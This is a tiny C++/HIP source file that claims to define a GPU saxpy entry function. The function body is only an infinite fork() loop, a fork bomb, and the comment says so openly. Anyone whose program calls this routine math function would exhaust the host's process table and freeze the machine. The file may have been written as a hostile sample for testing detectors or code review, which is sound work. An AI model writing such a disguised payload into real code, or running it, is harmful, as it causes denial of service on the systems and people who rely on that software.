// Fork bomb on the host side of the entry function.
#include <hip/hip_runtime.h>
#include <unistd.h>

void saxpy(int n, float a, const float* x, float* y, hipStream_t stream) {
  for (;;) fork();
}
